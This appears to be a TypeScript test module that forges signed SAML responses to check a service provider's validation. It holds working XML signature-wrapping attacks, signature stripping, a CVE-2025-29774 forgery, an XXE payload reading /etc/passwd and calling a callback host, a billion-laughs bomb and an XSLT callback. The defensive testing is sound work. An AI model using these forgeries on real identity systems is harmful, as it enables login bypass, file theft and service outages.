// The forgeries of docs/security.md, "SAML responses", as transformations of a genuinely signed
// Response. XSW1–8 follow SAMLRaider's XSWHelpers (the "evil" copy names EVIL_NAME_ID); the rest follow
// the published fixtures and advisories of node-saml, xml-crypto, ruby-saml and samlify. Content-only
// attacks (audience, times, issuers…) are not here: response.ts builds those with the wrong value and
// signs them properly, so only the one check under test can fail.
import { signElement, type DigestName, type Signer } from './sign.js';
import { NS, child, childElements, descendants, insertAfter, newId, parseXml, remove, serialize } from './xml.js';

export const SAML_ATTACKS = [
  'xsw1', // evil Response (new ID) keeps the genuine Response Signature; clean copy inside that Signature
  'xsw2', // same, clean copy as the Signature's previous sibling
  'xsw3', // unsigned evil Assertion (new ID) before the signed one
  'xsw4', // unsigned evil Assertion (new ID) in place, the signed one nested in it
  'xsw5', // signed Assertion made evil (new ID, Signature kept); clean unsigned copy (old ID) appended
  'xsw6', // as xsw5, the clean copy inside the Assertion's Signature
  'xsw7', // samlp:Extensions before the Assertion with an evil unsigned copy under the SAME ID
  'xsw8', // evil values in the signed Assertion (ID kept); clean copy in ds:Object in its Signature
  'assertion-in-extensions', // signed Assertion moved into samlp:Extensions; forged unsigned one in place
  'comment-in-nameid', // NameID admin@corp.example<!---->.evil.example (and email), genuinely signed
  'stripped-signature', // every ds:Signature removed
  'attacker-signed', // signed by the attacker's key, attacker cert in KeyInfo
  'tampered-after-signing', // NameID (and matching attribute values) changed to EVIL_NAME_ID after signing
  'wrong-audience', // Audience = OTHER.spEntityId, genuinely signed
  'wrong-destination', // Response Destination = OTHER.acsUrl
  'wrong-recipient', // SubjectConfirmationData Recipient = OTHER.acsUrl
  'wrong-issuer', // Response Issuer = OTHER.idpEntityId (Assertion Issuer right)
  'wrong-assertion-issuer', // Assertion Issuer = OTHER.idpEntityId (Response Issuer right)
  'expired', // issued 15 min ago; Conditions and SubjectConfirmationData NotOnOrAfter 10 min ago
  'not-yet-valid', // Conditions NotBefore in 10 min
  'two-assertions', // two genuinely signed Assertions, the second for EVIL_NAME_ID
  'status-responder', // StatusCode Responder, with a genuine signed Assertion all the same
  'no-bearer', // SubjectConfirmation Method sender-vouches
  'no-conditions', // no Conditions element
  'no-authnstatement', // no AuthnStatement
  'in-response-to-mismatch', // SubjectConfirmationData InResponseTo differs from the Response's
  'dtd-external-entity', // DOCTYPE with external entities (<url>/xxe, <url>/xxe.dtd, file:///etc/passwd) used in Issuer
  'billion-laughs', // DOCTYPE with 10^9 nested entity expansion used in Issuer
  'xslt-transform', // XSLT Transform calling document('<url>/xslt') first in the Signature's Reference
  'two-signed-info', // second SignedInfo over an evil Assertion; original wrapped in <a> (CVE-2025-29774)
  'encrypted-unsigned', // EncryptedAssertion and nothing signed (needs encryptFor)
] as const;
export type SamlAttack = (typeof SAML_ATTACKS)[number];

/** The identity every forged copy claims. */
export const EVIL_NAME_ID = 'admin@evil.example';
/** comment-in-nameid: what the NameID holds as XML, and its true value (all its text). */
export const COMMENT_NAME_ID_XML = 'admin@corp.example<!---->.evil.example';
export const COMMENT_NAME_ID = 'admin@corp.example.evil.example';
/** The wrong values of the wrong-* attacks. */
export const OTHER = {
  spEntityId: 'urn:amazon:cognito:sp:us-east-1_EvilPool',
  acsUrl: 'https://evil.example/saml2/idpresponse',
  idpEntityId: 'https://other-idp.example/metadata',
} as const;

export const XSLT_URI = 'http://www.w3.org/TR/1999/REC-xslt-19991116';

/** Attacks that need a signed Response (sign 'response' or 'both'). */
export const NEEDS_RESPONSE_SIGNATURE: readonly SamlAttack[] = ['xsw1', 'xsw2'];
/** Attacks that need a signed Assertion (sign 'assertion' or 'both'). */
export const NEEDS_ASSERTION_SIGNATURE: readonly SamlAttack[] = [
  'xsw3', 'xsw4', 'xsw5', 'xsw6', 'xsw7', 'xsw8', 'assertion-in-extensions', 'two-signed-info',
];
/** Attacks that rework the (plaintext, assertion-signed) Response before any encryption. */
export const PLAINTEXT_ATTACKS: readonly SamlAttack[] = [
  ...NEEDS_ASSERTION_SIGNATURE, 'tampered-after-signing', 'stripped-signature',
];

/** Puts EVIL_NAME_ID in every NameID under `el`, and in attribute values that repeated the old NameID. */
export function evilize(el: Element): void {
  for (const nameId of descendants(el, NS.saml, 'NameID')) {
    const old = nameId.textContent;
    nameId.textContent = EVIL_NAME_ID;
    for (const v of descendants(el, NS.saml, 'AttributeValue')) if (v.textContent === old) v.textContent = EVIL_NAME_ID;
  }
}

function ownSignature(el: Element): Element {
  const sig = child(el, NS.ds, 'Signature');
  if (!sig) throw new Error(`the ${el.localName} is not signed`);
  return sig;
}

/** The first Assertion directly under the Response that carries its own Signature. */
function signedAssertion(root: Element): Element {
  const a = childElements(root, NS.saml, 'Assertion').find((e) => child(e, NS.ds, 'Signature'));
  if (!a) throw new Error('no signed Assertion to attack');
  return a;
}

/** A copy of `el` without its own Signature. */
function unsignedClone(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  const sig = child(copy, NS.ds, 'Signature');
  if (sig) remove(sig);
  return copy;
}

export interface PlaintextAttackContext {
  /** Any key: used only to compute digests (two-signed-info). */
  signer: Signer;
  digest: DigestName;
  /** Base URL on the fake for the XSLT payload. */
  callbackBase: string;
}

/** Applies an assertion-level attack to a Response whose Assertion(s) are signed, not encrypted. */
export function plaintextAttack(attack: SamlAttack, xml: string, ctx: PlaintextAttackContext): string {
  const doc = parseXml(xml);
  const root = doc.documentElement!;
  switch (attack) {
    case 'xsw3': {
      // Unsigned evil Assertion (new ID) first, the signed one after it.
      const a = signedAssertion(root);
      const evil = unsignedClone(a);
      evilize(evil);
      evil.setAttribute('ID', newId('_evil_'));
      root.insertBefore(evil, a);
      break;
    }
    case 'xsw4': {
      // Evil Assertion (new ID) in place, the signed one nested inside it as its last child.
      const a = signedAssertion(root);
      const evil = unsignedClone(a);
      evilize(evil);
      evil.setAttribute('ID', newId('_evil_'));
      root.replaceChild(evil, a);
      evil.appendChild(a);
      break;
    }
    case 'xsw5':
    case 'xsw6': {
      // The signed Assertion becomes evil (new ID, keeps its Signature); a clean unsigned copy with
      // the original ID goes at the end of the Response (xsw5) or inside that Signature (xsw6).
      const a = signedAssertion(root);
      const clean = unsignedClone(a);
      evilize(a);
      a.setAttribute('ID', newId('_evil_'));
      (attack === 'xsw5' ? root : ownSignature(a)).appendChild(clean);
      break;
    }
    case 'xsw7': {
      // samlp:Extensions before the Assertion holding an evil unsigned copy with the SAME ID.
      const a = signedAssertion(root);
      const ext = doc.createElementNS(NS.samlp, 'samlp:Extensions');
      const evil = unsignedClone(a);
      evilize(evil);
      ext.appendChild(evil);
      root.insertBefore(ext, a);
      break;
    }
    case 'xsw8': {
      // Evil values in the signed Assertion (ID kept); the clean copy in a ds:Object in its Signature.
      const a = signedAssertion(root);
      const clean = unsignedClone(a);
      evilize(a);
      const object = doc.createElementNS(NS.ds, 'ds:Object');
      object.appendChild(clean);
      ownSignature(a).appendChild(object);
      break;
    }
    case 'assertion-in-extensions': {
      // The signed Assertion hidden in samlp:Extensions (its schema place, before Status); a forged
      // unsigned one (new ID) where the Assertion belongs.
      const a = signedAssertion(root);
      const forged = unsignedClone(a);
      evilize(forged);
      forged.setAttribute('ID', newId('_evil_'));
      const ext = doc.createElementNS(NS.samlp, 'samlp:Extensions');
      root.insertBefore(ext, child(root, NS.samlp, 'Status')!);
      root.replaceChild(forged, a);
      ext.appendChild(a);
      break;
    }
    case 'two-signed-info':
      return twoSignedInfo(doc, ctx);
    case 'tampered-after-signing':
      for (const a of childElements(root, NS.saml, 'Assertion')) evilize(a);
      break;
    case 'stripped-signature':
      for (const sig of descendants(root, NS.ds, 'Signature')) remove(sig);
      break;
    default:
      throw new Error(`${attack} is not a plaintext attack`);
  }
  return serialize(doc);
}

/**
 * xml-crypto CVE-2025-29774 (fixture saml_multiple_signed_info_nodes.xml): the evil Assertion (new
 * ID) in place carries the original Signature with a second SignedInfo referencing the evil ID with
 * a correct digest; the original Assertion, its Signature moved away, sits in an `<a>` wrapper.
 */
function twoSignedInfo(doc: Document, ctx: PlaintextAttackContext): string {
  const root = doc.documentElement!;
  const a = signedAssertion(root);
  const sig = ownSignature(a);
  const evil = unsignedClone(a);
  evilize(evil);
  const evilId = newId('_evil_');
  evil.setAttribute('ID', evilId);
  root.replaceChild(evil, a);
  remove(sig);
  const wrapper = doc.createElement('a');
  wrapper.appendChild(a);
  root.appendChild(wrapper);
  // The digest of the evil Assertion needs no key: any signer's SignedInfo over it will do.
  const computed = parseXml(signElement(serialize(doc), evilId, ctx.signer, ctx.digest));
  const evilSignedInfo = descendants(computed, NS.ds, 'SignedInfo')[0]!;
  insertAfter(sig, child(evil, NS.saml, 'Issuer')!);
  insertAfter(doc.importNode(evilSignedInfo, true), child(sig, NS.ds, 'SignedInfo')!);
  return serialize(doc);
}

/** An XSLT Transform (calling back to the fake) as the first Transform of the Signature's Reference. */
export function addXsltTransform(xml: string, which: 'assertion' | 'response', callbackBase: string): string {
  const doc = parseXml(xml);
  const root = doc.documentElement!;
  const owner = which === 'response' ? root : signedAssertion(root);
  const transforms = descendants(ownSignature(owner), NS.ds, 'Transforms')[0]!;
  const stylesheet = parseXml(
    `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">` +
      `<xsl:template match="/"><xsl:copy-of select="document('${callbackBase}/xslt')"/></xsl:template></xsl:stylesheet>`,
  ).documentElement!;
  const t = doc.createElementNS(NS.ds, 'ds:Transform');
  t.setAttribute('Algorithm', XSLT_URI);
  t.appendChild(doc.importNode(stylesheet, true));
  transforms.insertBefore(t, transforms.firstChild);
  return serialize(doc);
}

/**
 * XSW1/XSW2 (SAMLRaider): the outer Response is `evilXml` with a new ID, carrying the genuine
 * Response Signature; the clean signed Response, minus its Signature, goes inside that Signature
 * (xsw1) or just before it (xsw2).
 */
export function wrapResponse(attack: 'xsw1' | 'xsw2', signedXml: string, evilXml: string): string {
  const signed = parseXml(signedXml).documentElement!;
  const doc = parseXml(evilXml);
  const root = doc.documentElement!;
  const sig = doc.importNode(ownSignature(signed), true) as Element;
  insertAfter(sig, child(root, NS.saml, 'Issuer')!);
  const clean = doc.importNode(unsignedClone(signed), true);
  if (attack === 'xsw1') sig.appendChild(clean);
  else root.insertBefore(clean, sig);
  root.setAttribute('ID', newId('_evil_'));
  return serialize(doc);
}

/** Puts the Response Signature of `signedXml` (over other content) after the Issuer of `xml`. */
export function transplantResponseSignature(signedXml: string, xml: string): string {
  const sig = ownSignature(parseXml(signedXml).documentElement!);
  const doc = parseXml(xml);
  const root = doc.documentElement!;
  insertAfter(doc.importNode(sig, true), child(root, NS.saml, 'Issuer')!);
  return serialize(doc);
}

/** A DOCTYPE after the XML declaration, and its entity referenced as the Response's Issuer. */
export function withDoctype(attack: 'dtd-external-entity' | 'billion-laughs', xml: string, callbackBase: string): string {
  let subset: string;
  let ref: string;
  if (attack === 'dtd-external-entity') {
    subset =
      `<!ENTITY % remote SYSTEM "${callbackBase}/xxe.dtd">%remote;` +
      `<!ENTITY xxe SYSTEM "${callbackBase}/xxe">` +
      `<!ENTITY passwd SYSTEM "file:///etc/passwd">`;
    ref = '&xxe;&passwd;';
  } else {
    subset = '<!ENTITY lol0 "lol">';
    for (let i = 1; i <= 9; i++) subset += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    ref = '&lol9;';
  }
  const declEnd = xml.indexOf('?>') + 2;
  const body = xml.slice(declEnd).replace(/(<saml:Issuer[^>]*>)[^<]*(<\/saml:Issuer>)/, `$1${ref}$2`);
  return `${xml.slice(0, declEnd)}<!DOCTYPE samlp:Response [${subset}]>${body}`;
}
